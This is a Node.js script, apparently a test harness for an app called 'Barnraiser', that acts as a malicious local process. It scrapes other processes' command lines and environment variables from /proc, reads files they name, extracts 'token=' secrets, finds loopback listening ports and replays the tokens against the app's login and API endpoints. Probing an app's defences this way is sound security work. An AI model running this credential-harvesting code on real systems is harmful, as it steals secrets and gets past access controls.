/**
 * Tries to get into the browser front end: takes whatever the process list shows, opens every file that it names, and sends
 * every token to every address. Prints `ready`, then a line for each thing that it gets.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';

const seen = new Set();
const found = (text) => {
  if (!seen.has(text)) {
    seen.add(text);
    console.log(text);
  }
};

function commandLines() {
  return readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name) && Number(name) !== process.pid)
    .flatMap((pid) => ['cmdline', 'environ'].map((file) => read(`/proc/${pid}/${file}`)));
}

function read(path) {
  try {
    return readFileSync(path, 'utf8');
  } catch {
    return '';
  }
}

const ports = () =>
  read('/proc/net/tcp')
    .split('\n')
    .map((line) => line.trim().split(/\s+/))
    // a listening socket of 127.0.0.1
    .flatMap(([, local = '', , state]) =>
      state === '0A' && local.startsWith('0100007F:') ? [Number.parseInt(local.slice(9), 16)] : [],
    );

async function tryToEnter(port, tokens) {
  const origin = `http://127.0.0.1:${port}`;
  const headers = { origin, 'content-type': 'application/json' };
  const send = (path, init) =>
    fetch(origin + path, { ...init, redirect: 'manual', signal: AbortSignal.timeout(2_000) }).catch(() => undefined);
  const page = await send('/');
  if (!(await page?.text().catch(() => ''))?.includes('Barnraiser')) {
    return;
  }
  found(`page ${port}`);
  for (const token of [...tokens, '', 'x']) {
    const [entered, old] = await Promise.all([
      send('/enter', { method: 'POST', headers, body: JSON.stringify({ token }) }),
      send(`/?token=${token}`),
    ]);
    if (entered?.status === 200 || old?.headers.has('set-cookie')) {
      found(`entered with a token of the process list`);
    }
    for (const authorization of [`Bearer ${token}`, '']) {
      const call = await send('/call/app.info', { method: 'POST', headers: { ...headers, authorization }, body: '{}' });
      const events = await send('/events', { headers: { authorization } });
      if (call?.status === 200 || events?.status === 200) {
        found(`called app.info`);
      }
    }
  }
}

console.log('ready');
for (;;) {
  const texts = commandLines();
  for (const text of texts) {
    for (const [url] of text.matchAll(/file:\/\/[^\s\0]+/g)) {
      const content = read(fileURLToPath(url));
      if (content.includes('token=')) {
        found(`read ${url}`);
        texts.push(content);
      }
    }
  }
  const tokens = [
    ...new Set(texts.flatMap((text) => [...text.matchAll(/token=([\w-]{20,})/g)].map(([, token]) => token))),
  ];
  if (tokens.length > 0) {
    found(`token ${tokens[0]}`);
  }
  await Promise.all(ports().map((port) => tryToEnter(port, tokens)));
  await new Promise((resolve) => setTimeout(resolve, 20));
}
